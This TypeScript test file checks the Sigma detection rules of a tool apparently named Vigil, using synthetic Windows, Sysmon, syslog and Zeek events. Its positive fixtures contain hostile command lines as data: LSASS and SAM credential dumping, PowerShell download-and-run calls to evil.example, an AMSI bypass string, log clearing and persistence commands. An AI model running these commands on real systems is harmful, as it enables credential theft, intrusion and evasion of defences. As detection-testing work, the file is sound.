/**
 * Vigil's own Sigma rules (rules/ at the repository root): each one fires on the behaviour it
 * describes and stays quiet on a close benign look-alike.
 */

import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { describeWithShared, repositoryRoot, sharedPath } from '../../test/shared-data.js';
import type { Event } from '../core/index.js';
import { createDetector } from './detector.js';
import { loadRules, type RuleSet } from './load-rules.js';
import { makeEvent, syslogEvent, sysmonEvent, windowsEvent, zeekEvent } from './test-support/make-event.js';
import type { RuleCase } from './test-support/rule-case.js';
import { credentialAccessCases } from './test-support/rule-cases/credential-access.cases.js';
import { defenseEvasionCases } from './test-support/rule-cases/defense-evasion.cases.js';
import { discoveryCollectionCases } from './test-support/rule-cases/discovery-collection.cases.js';
import { executionCases } from './test-support/rule-cases/execution.cases.js';
import { lateralMovementCases } from './test-support/rule-cases/lateral-movement.cases.js';
import { linuxCases } from './test-support/rule-cases/linux.cases.js';
import { networkInitialAccessCases } from './test-support/rule-cases/network-initial-access.cases.js';
import { persistenceCases } from './test-support/rule-cases/persistence.cases.js';

const process1 = (image: string, commandLine: string, extra: Record<string, unknown> = {}) =>
  sysmonEvent(1, { Image: image, CommandLine: commandLine, ...extra });
const script = (text: string) =>
  windowsEvent('Microsoft-Windows-PowerShell/Operational', 4104, { ScriptBlockText: text });
const minute = (index: number) => new Date(Date.UTC(2024, 4, 1, 10, index)).toISOString();
const second = (index: number) => new Date(Date.UTC(2024, 4, 1, 10, 0, index)).toISOString();
const utf16Base64 = (text: string) => Buffer.from(text, 'utf16le').toString('base64');

const firstCases: RuleCase[] = [
  {
    title: 'Process Opens LSASS With Memory-Read Rights',
    positive: () => [
      sysmonEvent(10, {
        SourceImage: 'C:\\Users\\bob\\Desktop\\m.exe',
        TargetImage: 'C:\\Windows\\system32\\lsass.exe',
        GrantedAccess: '0x1010',
      }),
    ],
    negative: () => [
      sysmonEvent(10, {
        SourceImage: 'C:\\Windows\\system32\\wininit.exe',
        TargetImage: 'C:\\Windows\\system32\\lsass.exe',
        GrantedAccess: '0x1fffff',
      }),
    ],
  },
  {
    title: 'LSASS Dump Through comsvcs.dll MiniDump',
    positive: () => [
      process1(
        'C:\\Windows\\System32\\rundll32.exe',
        'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full',
      ),
    ],
    negative: () => [process1('C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe shell32.dll,Control_RunDLL')],
  },
  {
    title: 'Memory Dump Tool Pointed At LSASS',
    positive: () => [process1('C:\\tools\\procdump64.exe', 'procdump64.exe -accepteula -ma lsass.exe out.dmp')],
    negative: () => [process1('C:\\tools\\procdump64.exe', 'procdump64.exe -ma w3wp.exe out.dmp')],
  },
  {
    title: 'Registry Hive Or AD Database Copied For Offline Cracking',
    positive: () => [
      process1('C:\\Windows\\System32\\reg.exe', 'reg save HKLM\\SAM C:\\temp\\sam.save'),
      process1('C:\\Windows\\System32\\ntdsutil.exe', 'ntdsutil "ac i ntds" "ifm" "create full c:\\temp" q q'),
    ],
    negative: () => [process1('C:\\Windows\\System32\\reg.exe', 'reg query HKLM\\SYSTEM\\CurrentControlSet')],
  },
  {
    title: 'Directory Replication Rights Used By A User Account',
    positive: () => [
      windowsEvent('Security', 4662, {
        SubjectUserName: 'eve',
        Properties: '%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}',
      }),
    ],
    negative: () => [
      windowsEvent('Security', 4662, {
        SubjectUserName: 'DC01$',
        Properties: '%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}',
      }),
    ],
  },
  {
    title: 'Service Installed With A Remote-Execution Pattern',
    positive: () => [
      windowsEvent('System', 7045, { ServiceName: 'PSEXESVC', ImagePath: '%SystemRoot%\\PSEXESVC.exe' }),
    ],
    negative: () => [
      windowsEvent('System', 7045, { ServiceName: 'Spooler helper', ImagePath: 'C:\\Program Files\\Vendor\\svc.exe' }),
    ],
  },
  {
    title: 'Shell Or Script Host Started By The WMI Provider Host',
    positive: () => [
      process1('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /q /c whoami', {
        ParentImage: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
      }),
    ],
    negative: () => [
      process1('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c dir', { ParentImage: 'C:\\Windows\\explorer.exe' }),
    ],
  },
  {
    title: 'Process Started Inside A WinRM Remote Session',
    positive: () => [
      process1('C:\\Windows\\System32\\whoami.exe', 'whoami', {
        ParentImage: 'C:\\Windows\\System32\\wsmprovhost.exe',
      }),
    ],
    negative: () => [
      process1('C:\\Windows\\System32\\conhost.exe', 'conhost 0x4', {
        ParentImage: 'C:\\Windows\\System32\\wsmprovhost.exe',
      }),
    ],
  },
  {
    title: 'Shell Started By A DCOM-Activated Application',
    positive: () => [
      process1('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c calc', {
        ParentImage: 'C:\\Windows\\System32\\mmc.exe',
        ParentCommandLine: 'mmc.exe -Embedding',
      }),
    ],
    negative: () => [
      process1('C:\\Windows\\System32\\cmd.exe', 'cmd.exe', {
        ParentImage: 'C:\\Windows\\System32\\mmc.exe',
        ParentCommandLine: 'mmc.exe compmgmt.msc',
      }),
    ],
  },
  {
    title: 'Remote Desktop Logon',
    positive: () => [windowsEvent('Security', 4624, { LogonType: 10, IpAddress: '10.1.2.3', TargetUserName: 'admin' })],
    negative: () => [windowsEvent('Security', 4624, { LogonType: 3, IpAddress: '10.1.2.3' })],
  },
  {
    title: 'Autorun Key Points At A Script Host Or User-Writable Folder',
    positive: () => [
      sysmonEvent(13, {
        TargetObject: 'HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater',
        Details: 'powershell -w hidden -f C:\\Users\\Public\\u.ps1',
      }),
    ],
    negative: () => [
      sysmonEvent(13, {
        TargetObject: 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\SecurityHealth',
        Details: 'C:\\Windows\\system32\\SecurityHealthSystray.exe',
      }),
    ],
  },
  {
    title: 'Service Installed From A User-Writable Folder Or Through A Shell',
    positive: () => [
      windowsEvent('System', 7045, { ServiceName: 'upd', ImagePath: 'C:\\Users\\bob\\AppData\\Local\\Temp\\svc.exe' }),
    ],
    negative: () => [
      windowsEvent('System', 7045, { ServiceName: 'vendor', ImagePath: '"C:\\Program Files\\Vendor\\svc.exe"' }),
    ],
  },
  {
    title: 'Service Installed From A User-Writable Folder Or Through A Shell (Security Log)',
    positive: () => [
      windowsEvent('Security', 4697, { ServiceName: 'upd', ServiceFileName: 'cmd.exe /c powershell -nop' }),
    ],
    negative: () => [
      windowsEvent('Security', 4697, { ServiceName: 'vendor', ServiceFileName: 'C:\\Program Files\\Vendor\\svc.exe' }),
    ],
  },
  {
    title: 'Scheduled Task Registered',
    positive: () => [windowsEvent('Security', 4698, { TaskName: '\\Updater' })],
    negative: () => [windowsEvent('Security', 4699, { TaskName: '\\Updater' })],
  },
  {
    title: 'Scheduled Task Created From The Command Line With A Suspicious Action',
    positive: () => [
      process1(
        'C:\\Windows\\System32\\schtasks.exe',
        'schtasks /create /sc minute /tn upd /tr "powershell -w hidden -f C:\\Users\\Public\\a.ps1"',
      ),
    ],
    negative: () => [process1('C:\\Windows\\System32\\schtasks.exe', 'schtasks /query /fo list')],
  },
  {
    title: 'WMI Event Subscription Created',
    positive: () => [sysmonEvent(20, { Operation: 'Created', Name: 'evil', Destination: 'powershell -enc AAAA' })],
    negative: () => [sysmonEvent(1, { Image: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe' })],
  },
  {
    title: 'Windows Event Log Cleared',
    positive: () => [windowsEvent('Security', 1102, { SubjectUserName: 'eve' })],
    negative: () => [windowsEvent('Application', 1102, {})],
  },
  {
    title: 'Windows Event Log Cleared (System Log)',
    positive: () => [windowsEvent('System', 104, { Channel: 'System' })],
    negative: () => [windowsEvent('System', 105, {})],
  },
  {
    title: 'Audit Policy Disabled Or Cleared With auditpol',
    positive: () => [
      process1(
        'C:\\Windows\\System32\\auditpol.exe',
        'auditpol /set /category:"Logon/Logoff" /success:disable /failure:disable',
      ),
    ],
    negative: () => [process1('C:\\Windows\\System32\\auditpol.exe', 'auditpol /get /category:*')],
  },
  {
    title: 'Event Log Cleared From The Command Line',
    positive: () => [process1('C:\\Windows\\System32\\wevtutil.exe', 'wevtutil cl Security')],
    negative: () => [process1('C:\\Windows\\System32\\wevtutil.exe', 'wevtutil qe Security /c:5')],
  },
  {
    title: 'Mshta Runs Remote Or Inline Script',
    positive: () => [process1('C:\\Windows\\System32\\mshta.exe', 'mshta.exe https://evil.example/a.hta')],
    negative: () => [process1('C:\\Windows\\System32\\mshta.exe', 'mshta.exe "C:\\Program Files\\App\\help.hta"')],
  },
  {
    title: 'Regsvr32 Loads A Scriptlet Or Remote Object',
    positive: () => [
      process1('C:\\Windows\\System32\\regsvr32.exe', 'regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll'),
    ],
    negative: () => [process1('C:\\Windows\\System32\\regsvr32.exe', 'regsvr32 /s C:\\Program Files\\App\\ole.dll')],
  },
  {
    title: 'Rundll32 Runs Script Or A DLL From A User-Writable Folder',
    positive: () => [process1('C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Users\\Public\\x.dll,Start')],
    negative: () => [
      process1('C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL'),
    ],
  },
  {
    title: 'CMSTP Installs A Connection Profile Silently',
    positive: () => [
      process1('C:\\Windows\\System32\\cmstp.exe', 'cmstp.exe /ni /s C:\\Users\\bob\\AppData\\Local\\Temp\\p.inf'),
    ],
    negative: () => [process1('C:\\Windows\\System32\\notepad.exe', 'notepad cmstp.txt')],
  },
  {
    title: 'Burst Of Reconnaissance Commands On One Host',
    positive: () =>
      ['whoami.exe', 'net.exe', 'nltest.exe', 'ipconfig.exe', 'systeminfo.exe'].map((image, index) =>
        sysmonEvent(1, { Image: `C:\\Windows\\System32\\${image}`, Computer: 'WS1' }, minute(index)),
      ),
    negative: () => [
      ...['whoami.exe', 'whoami.exe', 'whoami.exe', 'net.exe'].map((image, index) =>
        sysmonEvent(1, { Image: `C:\\Windows\\System32\\${image}`, Computer: 'WS1' }, minute(index)),
      ),
      ...['nltest.exe', 'ipconfig.exe'].map((image, index) =>
        sysmonEvent(1, { Image: `C:\\Windows\\System32\\${image}`, Computer: 'WS1' }, minute(30 + index)),
      ),
    ],
  },
  {
    title: 'PowerShell Started With An Encoded Command',
    positive: () => [
      process1(
        'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        `powershell.exe -NoP -EncodedCommand ${utf16Base64('whoami')}`,
      ),
    ],
    negative: () => [
      process1(
        'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        'powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1',
      ),
    ],
  },
  {
    title: 'PowerShell Script Downloads And Runs Code',
    positive: () => [script("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')")],
    negative: () => [
      script("(New-Object Net.WebClient).DownloadFile('https://vendor.example/update.zip', 'C:\\temp\\u.zip')"),
    ],
  },
  {
    title: 'PowerShell Command Line Downloads And Runs Code',
    positive: () => [
      process1(
        'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        'powershell -c "iwr http://evil.example/a.ps1 | iex"',
      ),
    ],
    negative: () => [
      process1(
        'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        'powershell -c "iwr https://vendor.example/file.zip -OutFile f.zip"',
      ),
    ],
  },
  {
    title: 'AMSI Bypass Attempt In A PowerShell Script Block',
    positive: () => [
      script(
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
      ),
    ],
    negative: () => [script('Get-MpComputerStatus | Select-Object AMSIProviderEnabled')],
  },
  {
    title: 'SSH Password Guessing Against One Host',
    positive: () =>
      Array.from({ length: 12 }, (_, index) =>
        syslogEvent('sshd', `Failed password for root from 203.0.113.7 port ${40000 + index} ssh2`, second(index * 5)),
      ),
    negative: () => [
      ...Array.from({ length: 5 }, (_, index) =>
        syslogEvent('sshd', `Failed password for bob from 10.0.0.5 port ${40000 + index} ssh2`, second(index)),
      ),
      ...Array.from({ length: 10 }, (_, index) =>
        syslogEvent('sshd', `Accepted publickey for bob from 10.0.0.5 port ${50000 + index} ssh2`, second(index)),
      ),
    ],
  },
  {
    title: 'Local Account Or Group Membership Added On Linux',
    positive: () => [
      syslogEvent(
        'useradd',
        'new user: name=backdoor, UID=1001, GID=1001, home=/home/backdoor, shell=/bin/bash, from=/dev/pts/0',
      ),
    ],
    negative: () => [
      syslogEvent('useradd', "failed adding user 'x', exit code: 9"),
      syslogEvent('cron', 'new user: name=x'),
    ],
  },
  {
    title: 'DNS Query With A Very Long Label',
    positive: () => [
      zeekEvent('dns', { 'id.orig_h': '10.0.0.5', query: `${'a1b2c3d4e5'.repeat(5)}.t.evil.example`, qtype_name: 'A' }),
    ],
    negative: () => [zeekEvent('dns', { 'id.orig_h': '10.0.0.5', query: 'www.example.com', qtype_name: 'A' })],
  },
  {
    title: 'Many DNS TXT Queries From One Host',
    positive: () =>
      Array.from({ length: 35 }, (_, index) =>
        zeekEvent('dns', { 'id.orig_h': '10.0.0.5', query: `${index}.t.example`, qtype_name: 'TXT' }, second(index)),
      ),
    negative: () =>
      Array.from({ length: 35 }, (_, index) =>
        zeekEvent('dns', { 'id.orig_h': '10.0.0.5', query: `${index}.example`, qtype_name: 'A' }, second(index)),
      ),
  },
  {
    title: 'Repeated Connections From One Host To One External Service',
    positive: () =>
      Array.from({ length: 24 }, (_, index) =>
        zeekEvent(
          'conn',
          { 'id.orig_h': '10.0.0.5', 'id.resp_h': '198.51.100.9', 'id.resp_p': 443 },
          minute(index * 2),
        ),
      ),
    negative: () =>
      Array.from({ length: 24 }, (_, index) =>
        zeekEvent('conn', { 'id.orig_h': '10.0.0.5', 'id.resp_h': '10.0.0.1', 'id.resp_p': 445 }, minute(index * 2)),
      ),
  },
];

const cases: RuleCase[] = [
  ...firstCases,
  ...credentialAccessCases,
  ...lateralMovementCases,
  ...executionCases,
  ...persistenceCases,
  ...defenseEvasionCases,
  ...discoveryCollectionCases,
  ...networkInitialAccessCases,
  ...linuxCases,
];

describe("Vigil's own rules", () => {
  let rules: RuleSet;
  beforeAll(async () => {
    rules = await loadRules([join(repositoryRoot, 'rules')]);
  });

  it('all compile, have unique ids and ATT&CK tags', () => {
    expect(rules.failed).toEqual([]);
    const all = [...rules.rules, ...rules.correlations];
    expect(new Set(all.map((rule) => rule.id)).size).toBe(all.length);
    for (const rule of all)
      expect(
        rule.tags.some((tag) => /^attack\.t\d{4}/.test(tag)),
        rule.title,
      ).toBe(true);
  });

  it('has a test case for every alerting rule', () => {
    const alerting = [...rules.rules.filter((rule) => rule.level !== 'informational'), ...rules.correlations].map(
      (rule) => rule.title,
    );
    expect(cases.map((testCase) => testCase.title).sort()).toEqual(alerting.sort());
  });

  const titlesFired = (events: Event[]) => {
    const detector = createDetector(rules);
    const alerts = events.flatMap((event) => detector.process(event));
    alerts.push(...detector.flush());
    return new Set(alerts.map((alert) => alert.ruleTitle));
  };

  for (const testCase of cases) {
    it(`${testCase.title}: fires on the behaviour, not on the look-alike`, () => {
      expect(titlesFired(testCase.positive())).toContain(testCase.title);
      expect(titlesFired(testCase.negative())).not.toContain(testCase.title);
    });
  }

  it('keeps network rules off Windows events and vice versa', () => {
    const event = makeEvent({
      format: 'zeek-json',
      dataset: 'conn',
      fields: { Image: 'C:\\Windows\\System32\\whoami.exe' },
    });
    expect(titlesFired([event]).size).toBe(0);
  });
});

describeWithShared("Vigil's own rules: ATT&CK tags", () => {
  it('name techniques that exist and are not revoked in ATT&CK v18', async () => {
    const compact = JSON.parse(readFileSync(sharedPath('attack', 'enterprise-attack-compact.json'), 'utf8')) as {
      techniques: Array<{ id: string }>;
    };
    const known = new Set(compact.techniques.map((technique) => technique.id.toLowerCase()));
    const rules = await loadRules([join(repositoryRoot, 'rules')]);
    const unknown = [...rules.rules, ...rules.correlations].flatMap((rule) =>
      rule.tags
        .filter((tag) => /^attack\.t\d{4}/.test(tag))
        .map((tag) => tag.slice('attack.'.length))
        .filter((id) => !known.has(id))
        .map((id) => `${rule.title}: ${id}`),
    );
    expect(unknown).toEqual([]);
  });
});
